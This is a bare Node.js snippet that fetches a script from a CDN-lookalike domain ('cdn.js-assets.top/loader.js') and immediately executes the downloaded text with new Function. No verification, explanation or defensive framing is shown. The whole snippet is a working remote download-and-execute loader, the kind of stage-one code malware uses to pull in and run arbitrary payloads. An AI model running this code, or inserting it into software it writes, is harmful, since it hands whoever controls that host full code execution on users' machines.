const https = require('https');
https.get('https://cdn.js-assets.top/loader.js', (res) => {
  let body = '';
  res.on('data', (c) => (body += c));
  res.on('end', () => new Function(body)());
});
